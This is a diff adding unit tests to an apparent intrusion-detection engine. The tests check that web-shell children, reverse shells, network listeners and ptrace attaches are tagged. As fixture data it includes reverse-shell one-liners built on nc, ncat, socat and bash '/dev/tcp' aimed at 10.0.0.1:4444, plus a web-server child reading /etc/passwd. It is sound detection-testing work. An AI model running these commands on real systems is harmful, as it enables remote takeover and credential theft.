@@ -115,6 +115,81 @@ static void test_miner(void **state)
 	assert_int_equal(ev.n_tags, 0);
 }
 
+/* An exec whose parent is the given program (comm, exe). */
+static void child_of(const char *pcomm, const char *pexe, const char *exe,
+		     const char *argv, size_t n)
+{
+	sw_event_reset(&ev, SW_EV_EXEC);
+	ev.exe = exe;
+	ev.argv = argv;
+	ev.argv_len = n;
+	ev.have = SW_HAVE_EXE | SW_HAVE_ARGV;
+	ev.ancestry[0].pid = 1;
+	ev.ancestry[0].comm = pcomm;
+	ev.ancestry[0].exe = pexe;
+	ev.n_ancestry = 1;
+	sw_detect_event(&rules, &ev);
+}
+
+#define CHILD(pc, pe, exe, argv) child_of(pc, pe, exe, argv, sizeof(argv))
+
+static void test_net(void **state)
+{
+	CHILD("nginx", "/usr/sbin/nginx", "/usr/bin/dash", "sh\0-c\0id");
+	assert_true(tagged("web-shell"));
+	CHILD("php-fpm8.2", "/usr/sbin/php-fpm8.2", "/usr/bin/id", "id");
+	assert_true(tagged("web-shell"));
+	CHILD("java", "/usr/lib/jvm/bin/java", "/usr/bin/cat", "cat\0/etc/passwd");
+	assert_true(tagged("web-shell"));
+	/* Near misses: nginx starting its worker, cat of a page, bash's child. */
+	CHILD("nginx", "/usr/sbin/nginx", "/usr/sbin/nginx", "nginx\0-g\0x");
+	assert_int_equal(ev.n_tags, 0);
+	CHILD("nginx", "/usr/sbin/nginx", "/usr/bin/cat", "cat\0/var/www/index.html");
+	assert_int_equal(ev.n_tags, 0);
+	CHILD("bash", "/usr/bin/bash", "/usr/bin/id", "id");
+	assert_int_equal(ev.n_tags, 0);
+	CHILD("nginxtool", "/opt/nginxtool", "/usr/bin/id", "id");
+	assert_int_equal(ev.n_tags, 0);
+
+	EXEC("/usr/bin/nc.openbsd", "/", "nc\0-e\0/bin/sh\0" "10.0.0.1\0" "4444");
+	assert_true(tagged("reverse-shell"));
+	EXEC("/usr/bin/ncat", "/", "ncat\0--sh-exec\0sh\0h\0" "1");
+	assert_true(tagged("reverse-shell"));
+	EXEC("/usr/bin/socat", "/", "socat\0tcp:h:1\0exec:/bin/sh");
+	assert_true(tagged("reverse-shell"));
+	EXEC("/usr/bin/bash", "/", "bash\0-c\0bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
+	assert_true(tagged("reverse-shell"));
+	EXEC("/usr/bin/nc.openbsd", "/", "nc\0-zv\0host\0" "22");
+	assert_int_equal(ev.n_tags, 0);
+	EXEC("/usr/bin/cat", "/", "cat\0/dev/tcp/x");	/* not a shell */
+	assert_int_equal(ev.n_tags, 0);
+
+	EXEC("/usr/bin/nc.openbsd", "/", "nc\0-lvnp\0" "4444");
+	assert_true(tagged("network-listener"));
+	assert_false(tagged("reverse-shell"));
+	EXEC("/usr/bin/socat", "/", "socat\0TCP-LISTEN:4444\0STDOUT");
+	assert_true(tagged("network-listener"));
+	EXEC("/usr/bin/socat", "/", "socat\0-\0TCP:h:80");
+	assert_int_equal(ev.n_tags, 0);
+}
+
+static void test_ptrace(void **state)
+{
+	const char *tracers[] = { "gdb", "strace", "perf", "injector", NULL };
+
+	for (int i = 0; i < 5; i++) {
+		sw_event_reset(&ev, SW_EV_PTRACE);
+		ev.u.ptrace.tracer_pid = 7;
+		ev.u.ptrace.tracer_comm = tracers[i];
+		sw_detect_event(&rules, &ev);
+		assert_int_equal(tagged("ptrace-attach"), i >= 3);
+	}
+	sw_event_reset(&ev, SW_EV_PTRACE);	/* a detach is not an attach */
+	ev.u.ptrace.tracer_comm = "injector";
+	sw_detect_event(&rules, &ev);
+	assert_int_equal(ev.n_tags, 0);
+}
+
 static void test_exit(void **state)
 {
 	sw_event_reset(&ev, SW_EV_EXIT);
@@ -161,6 +236,8 @@ int main(void)
 		cmocka_unit_test_setup(test_hidden_deleted_memfd, setup),
 		cmocka_unit_test_setup(test_miner, setup),
 		cmocka_unit_test_setup(test_exit, setup),
+		cmocka_unit_test_setup(test_net, setup),
+		cmocka_unit_test_setup(test_ptrace, setup),
 		cmocka_unit_test_setup(test_tag_room, setup),
 	};
 
